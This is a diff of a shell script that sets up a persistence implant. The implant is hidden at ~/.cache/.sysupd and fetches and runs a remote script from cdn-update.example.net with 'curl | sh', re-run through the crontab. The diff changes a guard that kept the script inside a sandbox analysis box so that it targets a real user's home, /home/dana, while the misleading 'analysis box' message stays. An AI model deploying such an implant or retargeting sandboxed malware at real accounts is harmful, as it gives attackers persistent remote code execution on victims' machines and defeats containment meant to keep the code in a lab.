@@ -1,7 +1,7 @@
 #!/bin/sh
 # Persistence through the user's crontab: keep the current entries, add a
 # job that re-runs the implant every five minutes, install the new table.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 implant="$HOME/.cache/.sysupd"
 mkdir -p "$HOME/.cache"
 printf '#!/bin/sh\ncurl -fsm 5 http://cdn-update.example.net/u.sh | sh\n' > "$implant"
